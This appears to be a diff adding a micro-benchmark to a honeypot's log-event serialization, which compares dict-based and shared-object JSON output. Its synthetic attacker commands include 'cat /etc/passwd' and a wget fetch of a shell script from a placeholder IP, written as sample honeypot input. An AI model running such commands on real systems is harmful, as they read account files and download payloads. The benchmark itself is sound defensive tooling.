@@ -0,0 +1,69 @@
+"""
+Micro-benchmark for building and serializing log events.
+
+Compares the former per-output handling (a dict per event that is passed to
+json.dumps once for the broker and once for the JSON logfile, coordinates
+formatted twice) with a LogEvent that is serialized once and shared.
+
+Usage: python3 -m benchmarks.log_events [events]
+"""
+from honeygrove.core.LogEvent import LogEvent
+
+from hashlib import sha256
+import json
+import random
+import sys
+import time
+
+ECS_SERVICE = {'id': sha256(b'HG1').hexdigest(), 'name': 'hg1', 'type': 'honeygrove', 'version': '0.6.0'}
+ECS_SERVICE_JSON = json.dumps(ECS_SERVICE)
+
+
+def synthetic_events(count):
+    rnd = random.Random(4711)
+    commands = ['ls -la', 'cat /etc/passwd', 'wget http://198.51.100.7/x.sh', 'uname -a', 'cd /tmp']
+    for i in range(count):
+        yield ('2019-08-07T08:02:22.{:06d}'.format(i % 1000000),
+               '192.0.2.{}'.format(rnd.randint(1, 254)), rnd.randint(1024, 65535),
+               (rnd.uniform(-90, 90), rnd.uniform(-180, 180)), rnd.choice(commands))
+
+
+def before(events):
+    out = []
+    for timestamp, ip, port, coordinates, req in events:
+        values = {'@timestamp': timestamp,
+                  'service': ECS_SERVICE,
+                  'event': {'category': 'warning', 'action': 'request'},
+                  'source': {'address': ip, 'ip': ip, 'port': port},
+                  'destination': {'address': '0.0.0.0', 'ip': '0.0.0.0', 'port': 22},
+                  'honeygrove': {'request': {'service': 'SSH', 'original': req, 'user': 'root'}}}
+        values['source']['geo'] = {'location': '{:.4f},{:.4f}'.format(coordinates[0], coordinates[1])}
+        broker = json.dumps(values)
+        lat = '{:.4f}'.format(coordinates[0])
+        lon = '{:.4f}'.format(coordinates[1])
+        out.append((broker, json.dumps(values), lat, lon))
+    return out
+
+
+def after(events):
+    out = []
+    for timestamp, ip, port, coordinates, req in events:
+        lat = '{:.4f}'.format(coordinates[0])
+        lon = '{:.4f}'.format(coordinates[1])
+        source = {'address': ip, 'ip': ip, 'port': port, 'geo': {'location': lat + ',' + lon}}
+        event = LogEvent(timestamp, ECS_SERVICE_JSON, 'warning', 'request', source,
+                         {'address': '0.0.0.0', 'ip': '0.0.0.0', 'port': 22},
+                         {'request': {'service': 'SSH', 'original': req, 'user': 'root'}})
+        out.append((event.to_json(), event.to_json(), lat, lon))
+    return out
+
+
+if __name__ == '__main__':
+    count = int(sys.argv[1]) if len(sys.argv) > 1 else 200000
+    events = list(synthetic_events(count))
+    assert before(events[:100]) == after(events[:100])
+    for name, func in [("dict + 2x dumps", before), ("LogEvent", after)]:
+        start = time.perf_counter()
+        func(events)
+        elapsed = time.perf_counter() - start
+        print("{:<16} {:>10.0f} events/s".format(name, count / elapsed))